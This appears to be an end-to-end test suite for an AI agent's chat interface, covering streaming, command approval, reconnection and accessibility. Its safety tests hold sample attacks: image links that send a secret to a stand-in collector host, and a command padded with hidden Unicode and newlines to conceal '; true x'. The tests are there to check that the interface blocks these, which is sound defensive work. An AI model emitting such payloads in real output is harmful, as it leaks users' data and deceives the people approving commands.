import { readFile } from "node:fs/promises";
import { createRequire } from "node:module";
import type { Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { answer, Metis, say, signInLink, type Turn } from "./browser";

let metis: Metis;

beforeAll(async () => {
  metis = await Metis.signIn();
});

afterEach(() => metis.closePages());

afterAll(() => metis.stop());

const SLOW = "Slowly, word by word, this answer grows until it has said all that it has to say, which is not much. The end.";
const COMMAND = (text: string): Turn => ({ toolCalls: [{ name: "shell.exec", arguments: { command: `echo ${text}` } }] });

async function ended(page: Page, index = -1): Promise<void> {
  const exchange = page.locator(".exchange").nth(index);
  await expect.poll(() => exchange.getAttribute("data-phase"), { timeout: 30_000 }).toBe("ended");
}

describe("sign-in", () => {
  test("the token has left the address bar", () => {
    expect(metis.urlAfterSignIn).not.toContain("token");
  });

  test("a link that is used up leads to a page that says what to do", async () => {
    const page = await metis.page({ storageState: { cookies: [], origins: [] } });
    await page.goto(signInLink() ?? "/");
    await page.getByRole("heading", { name: "That link is used up" }).waitFor();
    expect(await page.getByText("./metis link").isVisible()).toBe(true);
    expect(page.url()).not.toContain("token");
  });

  test("without a session the page asks for a link", async () => {
    const page = await metis.page({ storageState: { cookies: [], origins: [] } });
    await page.goto("/");
    await page.getByRole("heading", { name: "Ask for a link" }).waitFor();
  });
});

describe("a run", () => {
  test("a message sent from the first page becomes a conversation", async () => {
    const page = await metis.page();
    await page.goto("/");
    await say(page, "Hello from the first page");
    await page.waitForURL(/\/c\/conv_/);
    await page.locator(".bubble", { hasText: "Hello from the first page" }).waitFor();
    await page.getByRole("link", { name: "Hello from the first page" }).waitFor();
    await page.getByRole("button", { name: "Stop" }).click();
    await ended(page);
  });

  test("streams, and is whole at its end", async () => {
    const page = await metis.open([{ reasoning: "Let me see.", text: SLOW, deltaMs: 100 }]);
    await say(page, "Go");
    const text = answer(page).locator(".prose").last();
    await text.getByText("Slowly").waitFor();
    const early = await text.innerText();
    expect(early.length).toBeLessThan(SLOW.length);
    await page.getByRole("button", { name: "Stop" }).waitFor();
    await ended(page);
    expect(await text.innerText()).toBe(SLOW);
    await page.getByRole("button", { name: "Send" }).waitFor();
    await page.getByRole("button", { name: /Thought/ }).click();
    await page.getByText("Let me see.").waitFor();
  });

  test("asks before a command, runs it once approved, and shows its output", async () => {
    const page = await metis.open([COMMAND("approved-output"), { text: "It is done." }]);
    await say(page, "Go");
    await page.getByRole("heading", { name: "Run this command?" }).waitFor();
    expect(await page.locator(".ask").innerText()).toContain("echo approved-output");
    expect(await page.getByText("Ran", { exact: true }).count()).toBe(0);
    await page.getByRole("button", { name: "Approve" }).focus();
    await page.keyboard.press("Enter");
    await page.getByText("Ran", { exact: true }).waitFor();
    await page.getByText("It is done.").waitFor();
    await ended(page);
    await page.getByRole("button", { name: /^Ran/ }).click();
    await page.locator(".output", { hasText: "approved-output" }).waitFor();
  });

  test("tells the model of a denial, and nothing ran", async () => {
    const page = await metis.open([COMMAND("never"), { text: "Then I will not." }]);
    await say(page, "Go");
    await page.getByRole("button", { name: "Decline…" }).click();
    await page.getByLabel(/instead/).fill("not this one");
    await page.getByRole("button", { name: "Decline", exact: true }).click();
    await page.getByText("Then I will not.").waitFor();
    await page.getByText("Declined: run").waitFor();
    await ended(page);
  });

  test("reloaded in the middle shows the same, and goes on", async () => {
    const page = await metis.open(
      [
        { text: "First part.", deltaMs: 5 },
        { text: SLOW, deltaMs: 250 },
      ].map((turn, at) =>
        at === 0
          ? { ...turn, toolCalls: [{ name: "plan.update", arguments: { steps: [{ title: "Talk", status: "in_progress" }] } }] }
          : turn,
      ),
    );
    await say(page, "Go");
    await answer(page).getByText("Slowly").waitFor();
    await page.reload();
    await answer(page).getByText("First part.").waitFor();
    await page.getByRole("button", { name: "Stop" }).waitFor();
    await answer(page).getByText("The end.").waitFor();
    await ended(page);
    const whole = await answer(page).innerText();
    expect(whole.split("First part.")).toHaveLength(2);
    expect(whole.split("Slowly")).toHaveLength(2);
    expect(await page.getByRole("region", { name: "Plan" }).count()).toBe(1);
    await page.reload();
    await answer(page).getByText("The end.").waitFor();
    expect(await page.locator(".prose", { hasText: "Slowly" }).last().innerText()).toBe(SLOW);
  });

  test("an approval is still there after a reload", async () => {
    const page = await metis.open([COMMAND("still-here"), { text: "Done after all." }]);
    await say(page, "Go");
    await page.getByRole("heading", { name: "Run this command?" }).waitFor();
    await page.reload();
    await page.getByRole("heading", { name: "Run this command?" }).waitFor();
    await page.getByRole("button", { name: "Approve" }).click();
    await page.getByText("Done after all.").waitFor();
    await ended(page);
  });

  test("is stopped by its button, and the conversation can go on", async () => {
    const page = await metis.open([
      { text: SLOW, deltaMs: 500 },
      { text: "Going on.", deltaMs: 2 },
    ]);
    await say(page, "Go");
    await answer(page).getByText("Slowly").waitFor();
    await page.getByRole("button", { name: "Stop" }).click();
    await answer(page).getByText("Stopped", { exact: true }).waitFor();
    await ended(page);
    expect(await answer(page).innerText()).not.toContain("The end.");
    await page.getByRole("button", { name: "Send" }).waitFor();
  });

  test("a second message waits its turn and then runs", async () => {
    const page = await metis.open(
      [COMMAND("first"), { text: "First is done.", deltaMs: 5 }, COMMAND("second"), { text: "Second is done.", deltaMs: 5 }],
      { mode: "approval-required" },
    );
    await say(page, "One");
    await page.getByRole("button", { name: "Approve" }).waitFor();
    await say(page, "Two");
    await page.getByText("Queued · next").waitFor();
    expect(await page.locator(".bubble").allInnerTexts()).toEqual(["One", "Two"]);
    await page.getByRole("button", { name: "Approve" }).click();
    await ended(page, 0);
    await page.getByText("Queued · next").waitFor({ state: "detached" });
    await expect.poll(() => page.locator(".exchange").nth(1).getAttribute("data-phase"), { timeout: 30_000 }).not.toBe("queued");
    const next = page.getByRole("button", { name: "Approve" });
    if (await next.isVisible().catch(() => false)) await next.click();
  });

  test("a question is answered in place", async () => {
    const page = await metis.open([
      { toolCalls: [{ name: "ask_user", arguments: { question: "Which colour?", choices: ["Red", "Blue"] } }] },
      { text: "As you wish." },
    ]);
    await say(page, "Go");
    await page.getByRole("heading", { name: "A question for you" }).waitFor();
    await page.getByRole("button", { name: "Blue" }).click();
    await page.getByText("As you wish.").waitFor();
    await ended(page);
    expect(await page.locator(".answered").innerText()).toContain("Blue");
  });

  test("an edit by itself shows what it changed", async () => {
    const page = await metis.open(
      [{ toolCalls: [{ name: "fs.write", arguments: { path: "notes.txt", content: "one line\n" } }] }, { text: "Written." }],
      { mode: "auto-edit" },
    );
    await say(page, "Go");
    await page.getByText("Written.").waitFor();
    await ended(page);
    await page.getByText("Wrote").waitFor();
    expect(await page.locator(".tool-head", { hasText: "notes.txt" }).count()).toBe(1);
  });
});

describe("a lost connection", () => {
  test("is said, the run stays at work, and what was missed is fetched once", async () => {
    const page = await metis.open([{ text: SLOW, deltaMs: 400 }]);
    await say(page, "Go");
    await answer(page).getByText("Slowly").waitFor();
    await page.context().setOffline(true);
    await page.getByText("Reconnecting").waitFor();
    expect(await page.getByRole("button", { name: "Stop" }).isVisible()).toBe(true);
    await page.context().setOffline(false);
    await page.getByText("Reconnecting").waitFor({ state: "detached" });
    await ended(page);
    expect(await answer(page).locator(".prose").last().innerText()).toBe(SLOW);
  });

  test("closed cleanly in the middle of a run is not its end", async () => {
    const page = await metis.open([{ text: SLOW, deltaMs: 300 }]);
    await say(page, "Go");
    await answer(page).getByText("Slowly").waitFor();
    await page.evaluate(() => {
      for (const socket of (window as unknown as { metisSockets: WebSocket[] }).metisSockets) socket.close(1000);
    });
    expect(await page.getByRole("button", { name: "Stop" }).isVisible()).toBe(true);
    await ended(page);
    expect(await answer(page).locator(".prose").last().innerText()).toBe(SLOW);
    expect(await page.evaluate(() => (window as unknown as { metisSockets: WebSocket[] }).metisSockets.length)).toBeGreaterThan(1);
  });
});

describe("safety", () => {
  test("an answer full of strangers' addresses makes no request to them, live or from history", async () => {
    const host = "https://collect.example.net";
    const text = `![x](${host}/p.png?d=SECRET-42) ![y][1] <img src="${host}/h"> ![z](//collect.example.net/p) ![u](https://app.example@collect.example.net/p) ![s](data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${host}/s'/%3E%3C/svg%3E) ${host}/bare end-of-text\n\n[1]: ${host}/ref.png\n`;
    const page = await metis.open([{ text, deltaMs: 2 }]);
    await say(page, "Go");
    await answer(page).getByText("end-of-text").waitFor();
    await ended(page);
    await page.reload();
    await answer(page).getByText("end-of-text").waitFor();
    expect(await page.locator(".answer-rows img").count()).toBe(0);
    expect(metis.foreign).toEqual([]);
  });

  test("hidden characters of a command are spelled out where it is approved", async () => {
    const command = `true ./build\u{200B}\u{202E}txt.cod\u{2066} --no\u{00AD}keep \u{E0072}${"\n".repeat(500)}; true x`;
    const page = await metis.open([{ toolCalls: [{ name: "shell.exec", arguments: { command } }] }, { text: "Done." }]);
    await say(page, "Go");
    const card = page.locator(".ask");
    await card.waitFor();
    const shown = await card.innerText();
    for (const escape of ["\\u{200b}", "\\u{202e}", "\\u{2066}", "\\u{ad}", "\\u{e0072}"]) expect(shown).toContain(escape);
    expect(shown).toMatch(/\d+ more lines/);
    expect(shown).toContain("; true x");
    await page.getByRole("button", { name: "Stop" }).click();
    await ended(page);
  });
});

describe("looks", () => {
  const axePath = createRequire(import.meta.url).resolve("axe-core/axe.min.js");

  async function violations(page: Page): Promise<string[]> {
    await page.evaluate(await readFile(axePath, "utf8"));
    return page.evaluate(async () => {
      const { axe } = window as unknown as {
        axe: { run: (root: Document, options: object) => Promise<{ violations: { id: string; nodes: { html: string }[] }[] }> };
      };
      const result = await axe.run(document, { runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"] });
      return result.violations.map((violation) => `${violation.id}: ${violation.nodes.map((node) => node.html).join(" ")}`);
    });
  }

  test.each([
    ["light", 1280],
    ["dark", 1280],
    ["light", 390],
    ["dark", 390],
  ] as const)("in %s at %i pixels nothing overflows and everybody can read it", async (colorScheme, width) => {
    const text =
      "# Title\n\nSome `code`, **bold** and a [link](https://example.com/).\n\n```python\ndef f(x):\n    return x  # comment\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n";
    const page = await metis.open(
      [{ text, deltaMs: 1, toolCalls: [{ name: "shell.exec", arguments: { command: `echo ${"long ".repeat(60)}` } }] }, { text: "Fin." }],
      {
        context: { colorScheme, viewport: { width, height: 844 }, bypassCSP: true },
      },
    );
    await say(page, "Show me everything");
    await page.getByRole("button", { name: "Approve" }).waitFor();
    await page.locator(".token").first().waitFor();
    expect(await page.evaluate(() => document.documentElement.dataset["theme"])).toBe(colorScheme);
    expect(await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)).toBeLessThanOrEqual(0);
    expect(
      await page.evaluate(
        () =>
          [...document.querySelectorAll(".answer-rows > *")].filter((row) => row.getBoundingClientRect().right > window.innerWidth).length,
      ),
    ).toBe(0);
    expect(await violations(page)).toEqual([]);
    await page.getByRole("button", { name: "Approve" }).click();
    await page.getByText("Fin.").waitFor();
    await ended(page);
    expect(await violations(page)).toEqual([]);
  });

  test("the theme can be chosen, and stays chosen", async () => {
    const page = await metis.page({ colorScheme: "light" });
    await page.goto("/");
    await page.getByRole("button", { name: /account and appearance/i }).click();
    await page.getByRole("menuitemradio", { name: "Dark" }).click();
    await expect.poll(() => page.evaluate(() => document.documentElement.dataset["theme"])).toBe("dark");
    await page.reload();
    expect(await page.evaluate(() => document.documentElement.dataset["theme"])).toBe("dark");
  });

  test("on a phone the list is a drawer", async () => {
    const title = `Drawer ${Date.now()}`;
    const page = await metis.open([{ text: "Hi." }], { title, context: { viewport: { width: 390, height: 844 } } });
    expect(await page.getByRole("link", { name: title }).count()).toBe(0);
    await page.getByRole("button", { name: "Conversations" }).click();
    await page.getByRole("link", { name: title }).click();
    await page.getByRole("dialog").waitFor({ state: "detached" });
  });

  test("a conversation is renamed, found and deleted", async () => {
    const title = `Rename me ${Date.now()}`;
    const page = await metis.open([{ text: "Hi." }], { title });
    const menu = page.locator("main").getByRole("button", { name: `Options for ${title}` });
    await menu.click();
    await page.getByRole("menuitem", { name: "Rename" }).click();
    await page.getByLabel("Title", { exact: true }).fill(`Renamed ${title}`);
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { level: 1, name: `Renamed ${title}` }).waitFor();
    await page.getByLabel("Search conversations").fill(`Renamed ${title}`);
    await expect.poll(() => page.locator(".item").count()).toBe(1);
    await page
      .locator("main")
      .getByRole("button", { name: `Options for Renamed ${title}` })
      .click();
    await page.getByRole("menuitem", { name: "Delete" }).click();
    await page.getByRole("alertdialog").getByRole("button", { name: "Delete" }).click();
    await page.getByRole("heading", { name: "What shall we work on?" }).waitFor();
    await page.getByText("Nothing found.").waitFor();
  });

  test("a draft outlives a reload", async () => {
    const page = await metis.open([{ text: "Hi." }]);
    await page.getByLabel("Your message").fill("half a thought");
    await page.reload();
    expect(await page.getByLabel("Your message").inputValue()).toBe("half a thought");
  });
});

test("in all of this the page asked no stranger for anything and complained of nothing", () => {
  expect(metis.foreign).toEqual([]);
  expect(metis.complaints).toEqual([]);
});
